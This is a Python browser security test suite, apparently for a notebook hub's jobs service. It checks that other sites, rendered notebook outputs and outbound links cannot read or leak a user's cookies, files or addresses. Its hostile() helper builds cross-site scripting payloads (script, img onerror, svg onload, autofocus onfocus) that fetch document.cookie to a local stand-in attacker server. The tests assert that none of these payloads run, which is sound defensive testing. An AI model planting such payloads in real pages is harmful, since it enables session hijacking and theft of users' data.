"""What a browser gives away at a real hub: to other sites, to outputs, and by links."""

from __future__ import annotations

import asyncio
import base64
import json
from collections.abc import AsyncIterator, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest
import pytest_asyncio
from playwright.async_api import Browser, BrowserContext, Page, async_playwright, expect

from tests.servers import notebooks
from tests.servers.chromium import FLAGS, chromium
from tests.servers.listening import listening
from tests.servers.patience import PATIENCE_SECONDS
from tests.servers.visitor import Visitor

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
JOBS = "/user/alice/himalia/api/"
FILES = "/user/alice/files/"
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
THEFT = "top.stolen = true; window.stolen = true; document.documentElement.dataset.stolen = 1"


class Attacker:
    """A server of the attacker's: remembers who asks, and shows a page."""

    def __init__(self) -> None:
        self.asked: list[tuple[str, str | None]] = []
        """Paths, and where the browser said that it came from."""
        self.page = ""
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                attacker.asked.append((self.path, self.headers.get("Referer")))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(attacker.page.encode())

            def log_message(self, format: str, *args: object) -> None:
                """Stay silent."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        port = self.server.server_port
        # Another site, and another port of the hub's own, to which cookies are sent along.
        self.urls = (f"http://localhost:{port}", f"http://127.0.0.1:{port}")


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    made = Attacker()
    with listening(made.server):
        yield made


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def browser() -> AsyncIterator[Browser]:
    async with async_playwright() as playwright:
        made = await playwright.chromium.launch(executable_path=chromium(), args=list(FLAGS))
        yield made
        await made.close()


async def _entered(browser: Browser, visitor: Visitor) -> BrowserContext:
    """Return a browser that has somebody's cookies."""
    context = await browser.new_context(locale="en-GB")
    context.set_default_timeout(PATIENCE_SECONDS * 1000)
    host = urlsplit(visitor.url).hostname
    cookies = [
        {"name": one.name, "value": one.value, "domain": host, "path": one.path, "sameSite": "Lax"}
        for one in visitor.http.cookies.jar
    ]
    await context.add_cookies(cookies)  # type: ignore[arg-type]
    return context


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def alices(browser: Browser, alice: Visitor) -> AsyncIterator[BrowserContext]:
    context = await _entered(browser, alice)
    yield context
    await context.close()


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def admins(browser: Browser, admin: Visitor) -> AsyncIterator[BrowserContext]:
    context = await _entered(browser, admin)
    yield context
    await context.close()


def hostile(attacker: Attacker, where: str) -> str:
    """Return markup that tells the attacker of any rights that it gets."""
    url = attacker.urls[0]
    script = f"{THEFT}; fetch('{url}/{where}?' + document.cookie); fetch('/hub/api/user')"
    return (
        f'<script>{script}</script><img src="x" onerror="{script}">'
        f'<svg onload="{script}"><script>{script}</script></svg>'
        f'<img src="{url}/{where}-img"><iframe src="{url}/{where}-frame"></iframe>'
        f'<link rel="stylesheet" href="{url}/{where}-css">'
        f'<form action="{url}/{where}-form"><input autofocus onfocus="{script}"></form>'
        f'<object data="{url}/{where}-object"></object>'
    )


async def _run(alice: Visitor, name: str, source: str, **spec: object) -> str:
    """Run a notebook of one cell to its end; return the run's id."""
    body = {"type": "notebook", "format": "json", "content": json.loads(notebooks.notebook(source))}
    answer = await alice.ask("PUT", f"/user/alice/api/contents/{name}.ipynb", json=body)
    assert answer.status_code in {200, 201}, answer.text
    title = spec.pop("title", name)
    draft = {"spec": {"notebook": f"{name}.ipynb", **spec}, "name": title}
    made = await alice.ask("POST", f"{JOBS}jobs", json=draft)
    assert made.status_code == 201, made.text
    run = str(made.json()["last_run"]["id"])
    async with asyncio.timeout(PATIENCE_SECONDS):
        while True:
            if (await alice.ask("GET", f"{JOBS}runs/{run}")).json()["ended_at"]:
                return run
            await asyncio.sleep(0.1)


async def test_018_no_other_site_embeds_what_is_alices(
    alice: Visitor,
    admin: Visitor,
    alices: BrowserContext,
    browser: Browser,
    attacker: Attacker,
) -> None:
    source = (
        f"open('pixel.png', 'wb').write({PIXEL!r}); open('data.js', 'w').write({THEFT!r}); "
        "open('sheet.css', 'w').write('body { color: rgb(1, 2, 3) }')"
    )
    run = await _run(alice, "embedded", source, outputs=["*"])
    for name, content in (
        ("pixel.png", base64.b64encode(PIXEL)),
        ("data.js", base64.b64encode(THEFT.encode())),
    ):
        body = {"type": "file", "format": "base64", "content": content.decode()}
        await alice.ask("PUT", f"/user/alice/api/contents/{name}", json=body)
    outputs = f"{JOBS}runs/{run}/outputs/"
    images = [f"{FILES}pixel.png", f"{outputs}pixel.png", f"{outputs}pixel.png?download=1"]
    scripts = [
        *(f"{FILES}data.js", f"{outputs}data.js", f"{outputs}embedded.ipynb"),
        *(f"{JOBS}runs", f"{JOBS}usage.csv", "/user/alice/api/contents", "/hub/api/users/alice"),
        *("/services/himalia/api/admin/audit", "/services/himalia/api/admin/usage.csv"),
    ]
    attacker.page = "<script>window.seen = {}</script>" + "".join(
        f'<{tag} {where}="{alice.url}{path}" onload="seen[\'{path}\'] = true" '
        f"onerror=\"seen['{path}'] = false\"></{tag}>"
        for tag, where, some in (("img", "src", images), ("script", "src", scripts))
        for path in some
    )
    for visitor in (alice, admin):
        context = await _entered(browser, visitor)
        page = await context.new_page()
        for url in attacker.urls:
            await page.goto(f"{url}/", wait_until="load")
            await page.wait_for_function(f"Object.keys(seen).length == {len(images + scripts)}")
            seen = await page.evaluate("seen")
            assert not [path for path in images if seen[path]], (url, seen)
            assert not [path for path in scripts[:3] if seen[path]], (url, seen)
            assert await page.evaluate("window.stolen") is None
        await context.close()
    # The other side: opened by Alice herself they are there.
    page = await alices.new_page()
    for path in images[:2]:
        answer = await page.goto(f"{alice.url}{path}")
        assert answer is not None
        assert answer.status == 200, path
    await page.close()


async def test_020_no_output_has_rights_when_its_owner_or_an_admin_looks(
    alice: Visitor, alices: BrowserContext, admins: BrowserContext, attacker: Attacker
) -> None:
    html = hostile(attacker, "output")
    source = (
        "from IPython.display import HTML, display\n"
        f"display(HTML({html!r}))\n"
        f"open('page.html', 'w').write({html!r})\n"
        f"open('image.svg', 'w').write('<svg xmlns=\"http://www.w3.org/2000/svg\">' + {html!r})\n"
        f"raise ValueError({html!r})"
    )
    name = hostile(attacker, "name")[:180]
    run = await _run(alice, "hostile", source, outputs=["*"], formats=["html"], title=name)
    listed = (await alice.ask("GET", f"{JOBS}runs/{run}/outputs")).json()["items"]
    assert len(listed) >= 3
    page = await alices.new_page()
    for one in listed:
        path = f"{JOBS}runs/{run}/outputs/{one['name']}"
        if one["name"].endswith((".html", ".svg")):
            await page.goto(f"{alice.url}{path}")
            await page.wait_for_timeout(300)
            assert page.url == f"{alice.url}{path}", "it went elsewhere by itself"
            assert await page.evaluate("document.documentElement.dataset.stolen") is None
            assert await page.evaluate("self.origin") == "null", "it has an origin of its own"
    await page.close()
    # An admin sees names and errors, of everybody.
    page = await admins.new_page()
    await page.goto(f"{alice.url}/services/himalia/")
    await expect(page.locator(".himalia-live")).to_have_text("Live")
    for tab in ("Runs", "Workloads", "People", "Overview", "Usage", "Audit"):
        await page.get_by_role("tab", name=tab, exact=True).click()
        if tab in {"Runs", "Workloads"}:
            shown = page.locator(".himalia tbody tr:visible").filter(has_text="top.stolen")
            await expect(shown.first).to_be_visible()
        assert await page.locator(".himalia img, .himalia script, .himalia iframe").count() == 0
        assert await page.evaluate("window.stolen") is None
    # Nor does an admin who opens the output itself lend it anything: it is Alice's to open.
    answer = await page.goto(f"{alice.url}{JOBS}runs/{run}/outputs/page.html")
    assert answer is not None
    assert "stolen" not in await answer.text()
    await page.close()
    assert attacker.asked == []


async def _left_by_a_link(page: Page, to: str) -> None:
    """Click a link that stands on a page, whoever put it there."""
    await page.evaluate(
        """to => {
            const link = document.createElement("a");
            link.href = to;
            link.textContent = "out";
            link.id = "out";
            link.style = "position: fixed; top: 0; left: 0; z-index: 100000";
            document.body.append(link);
        }""",
        to,
    )
    await page.locator("#out").click(force=True)
    await page.wait_for_url(f"{to}*")


@pytest.mark.parametrize(
    "path",
    [
        "/hub/home?secret=canary",
        "/hub/token?secret=canary",
        "/user/alice/lab/tree/canary-folder",
        "/user/alice/nbconvert/html/canary.ipynb",
        "/services/himalia/?secret=canary",
    ],
)
async def test_023_a_link_out_names_the_hub_at_most(
    alice: Visitor,
    admins: BrowserContext,
    alices: BrowserContext,
    attacker: Attacker,
    path: str,
) -> None:
    """Addresses name people, folders and notebooks, and what was searched for."""
    if path.endswith("canary.ipynb"):
        await _run(alice, "canary", "1")
    context = admins if path.startswith("/services") else alices
    page = await context.new_page()
    for url in attacker.urls:
        await page.goto(f"{alice.url}{path}")
        await _left_by_a_link(page, f"{url}/left")
    await page.close()
    came = [where for asked, where in attacker.asked if asked == "/left"]
    assert len(came) == len(attacker.urls)
    assert set(came) <= {None, f"{alice.url}/"}, came
